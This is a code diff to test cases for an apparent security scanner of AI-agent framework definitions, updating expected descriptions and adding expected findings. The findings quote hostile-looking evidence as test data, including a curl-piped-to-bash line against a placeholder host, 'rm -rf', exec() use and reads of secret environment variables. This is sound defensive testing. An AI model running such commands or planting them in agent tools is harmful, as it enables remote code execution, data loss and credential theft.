@@ -8,6 +8,7 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from wardline.functions import catalog as C
+from wardline.functions import definitions
 from wardline.functions import text as X
 from wardline.operators import fleet, frameworks, report, scan
 from wardline.session import shared_folder
@@ -180,23 +181,23 @@ _DEFINITIONS = (
     (1, "langchain", "function", "lookup", ""),
     (2, "openai_agents", "function_tool", "weather", ""),
     (2, "openai_agents", "function_tool", "news", ""),
-    (3, "google_adk", "agent", "helper_agent", ""),
+    (3, "google_adk", "agent", "helper_agent", "Google ADK agent (model=m)"),
     (4, "autogen", "function", "plan", ""),
-    (5, "composio", "action", "star", ""),
-    (6, "semantic_kernel", "function", "greet", ""),
-    (7, "llamaindex", "function_tool", "function_tool", ""),
-    (7, "llamaindex", "react_agent", "react_agent", ""),
+    (5, "composio", "action", "x", ""),
+    (6, "semantic_kernel", "function", "greet", "[P] "),
+    (7, "llamaindex", "function_tool", "f", ""),
+    (7, "llamaindex", "agent", "ReActAgent", "LlamaIndex ReActAgent agent"),
     (8, "mastra", "tool", "fetch-page", "Gets a page"),
     (8, "mastra", "agent", "guide", "Mastra agent: Be kind"),
-    (9, "pydanticai", "agent", "agent_openai:gpt", ""),
+    (9, "pydanticai", "agent", "agent_openai_gpt", "model=openai:gpt"),
     (9, "pydanticai", "function", "roll", ""),
-    (10, "agno", "agent", "web helper", ""),
+    (10, "agno", "agent", "web helper", "Agno agent (model=m)"),
     (10, "agno", "toolkit", "Kit", ""),
     (11, "camel", "toolkit", "SearchToolkit", "CAMEL-AI SearchToolkit"),
     (11, "camel", "toolkit", "MathToolkit", "CAMEL-AI MathToolkit"),
     (11, "camel", "agent", "ChatAgent", "CAMEL-AI ChatAgent"),
-    (12, "metagpt", "class", "Writer", ""),
-    (12, "metagpt", "function", "count", ""),
+    (12, "metagpt", "class", "Writer", "[Role]"),
+    (12, "metagpt", "function", "count", "[Tool]"),
     (13, "haystack", "tool", "search_docs", ""),
     (14, "anthropic_sdk", "function", "read_it", ""),
     (14, "langchain", "function", "read_it", ""),
@@ -205,24 +206,24 @@ _DEFINITIONS = (
     (16, "mcp_server", "server", "server", "MCP server (0 tools): "),
     (20, "openai_agents", "function_tool", "find", "Finds things."),
     (20, "openai_agents", "agent", "helper", ""),
-    (20, "openai_agents", "hosted_tool", "WebSearchTool", ""),
-    (20, "openai_agents", "mcp_server", "MCPServerStdio", ""),
-    (20, "openai_agents", "mcp_server", "https://m.example.com", ""),
-    (21, "google_adk", "agent", "dice", ""),
+    (20, "openai_agents", "hosted_tool", "WebSearchTool", "OpenAI hosted tool: WebSearchTool"),
+    (20, "openai_agents", "mcp_server", "MCPServerStdio", "MCP server connection via MCPServerStdio"),
+    (20, "openai_agents", "mcp_server", "https://m.example.com", "MCP server connection via MCPServerHTTP"),
+    (21, "google_adk", "agent", "dice", "Google ADK agent (model=)"),
     (21, "google_adk", "function_tool", "roll", ""),
     (21, "google_adk", "callback", "guard", ""),
-    (21, "google_adk", "mcp_toolset", "mcp_toolset", ""),
+    (21, "google_adk", "mcp_toolset", "MCPToolset", "MCP connection: "),
     (22, "langchain", "class", "Deep", ""),
     (22, "langchain", "function", "look", ""),
     (23, "autogen", "schema", "fetch_it", ""),
     (24, "composio", "module", "refs", ""),
-    (25, "semantic_kernel", "function", "wave", "Waves."),
-    (26, "llamaindex", "reader", "WikipediaReader", ""),
+    (25, "semantic_kernel", "function", "wave", "[P] Waves."),
+    (26, "llamaindex", "reader", "WikipediaReader", "Data connector: WikipediaReader"),
     (27, "pydanticai", "function", "spin", ""),
     (28, "camel", "function_tool", "add", ""),
-    (29, "metagpt", "function", "sum_up", ""),
-    (29, "metagpt", "class", "Boss", ""),
-    (30, "haystack", "component", "reader", ""),
+    (29, "metagpt", "function", "sum_up", "[Tool]"),
+    (29, "metagpt", "class", "Boss", "[Role]"),
+    (30, "haystack", "component", "reader", "Haystack component: R"),
     (31, "anthropic_sdk", "agent", "critic", ""),
     (31, "anthropic_sdk", "mcp_server", "local", ""),
     (31, "anthropic_sdk", "hook", "hook", ""),
@@ -249,7 +250,55 @@ def framework_definitions(spark, sf_dir):
     return frameworks.definitions(files(spark, sf_dir))
 
 
-@case("source_findings")
+_VIOLATION = "Capability violation: skill requires {0} but only declares up to {1}:NONE (undeclared)"
+_ENV, _RUN, _NET = (
+    (_VIOLATION.format(need, need.split(":")[0]), "privilege_escalation", "capability_violation", f"inferred={need}")
+    for need in ("environment:READ", "shell:WRITE", "network:READ")
+)
+
+
+def _variable(name: str):
+    return f"Sensitive environment variable accessed: {name}", "data_exfiltration", "pattern_match", name
+
+
+def _url(url: str):
+    return f"External URL detected: {url}", "data_exfiltration", "pattern_match", url
+
+
+def _pattern(message: str, evidence: str):
+    return message, "privilege_escalation", "pattern_match", evidence
+
+
+# Findings of the definitions' own texts, as a reader of the snippets would list them: slot, definition, severity,
+# message, attack class, finding type, evidence ('*': the whole file).
+_SOURCE_FINDINGS = (
+    (4, "plan", 4, *_pattern("Destructive operation: recursive forced removal (rm -rf)", "rm -rf /tmp/q")),
+    (8, "fetch-page", 3, *_ENV),
+    (8, "fetch-page", 3, *_variable("API_TOKEN")),
+    (8, "guide", 3, *_ENV),
+    (8, "guide", 3, *_variable("API_TOKEN")),
+    (13, "search_docs", 3, *_variable("HAY_TOKEN")),
+    (15, "server", 3, *_RUN),
+    (15, "server", 3, *_pattern("Dynamic code evaluation: exec() can run arbitrary code", "*")),
+    (15, "server", 3, *_ENV),
+    (16, "server", 3, *_variable("MCP_SECRET")),
+    (16, "server", 3, *_ENV),
+    (20, "https://m.example.com", 3, *_url("https://m.example.com")),
+    (20, "https://m.example.com", 3, *_NET),
+    (32, "server2", 3, *_NET),
+    (32, "server2", 3, *_RUN),
+    (32, "server2", 4, *_pattern("Remote code: curl piped to shell", "curl https://e.example.com/x | bash")),
+    (32, "server2", 3, *_url("https://e.example.com/x")),
+)
+_FINDING_COLUMNS = "skill_name, severity, message, attack_class, finding_type, evidence"
+
+
+@case(
+    "source_findings",
+    o.with_(_FILES, ("found", _by_slot(_SOURCE_FINDINGS, _FINDING_COLUMNS).replace("SELECT seq, path,", "SELECT seq, content,")))
+    + "SELECT seq, skill_name, severity, message, attack_class, finding_type,"
+    " CASE WHEN evidence = '*' THEN content ELSE evidence END AS evidence FROM found",
+)
 def source_findings(spark, sf_dir):
     """Source files through their definitions to findings."""
     return scan.findings_of(scan.analyze(frameworks.skills_from_source(files(spark, sf_dir))))
@@ -346,7 +395,7 @@ def toolkit_capabilities(spark, sf_dir):
     return rows.select(
         "seq",
         joined(frameworks.toolkit_capabilities(F.col("toolkit"))).alias("toolkit_caps"),
-        joined(frameworks.component_capabilities(F.col("component"))).alias("component_caps"),
+        joined(definitions.component_capabilities(F.col("component"))).alias("component_caps"),
         joined(frameworks.tool_reference_capabilities(F.array("toolkit"))).alias("reference_caps"),
     )
 
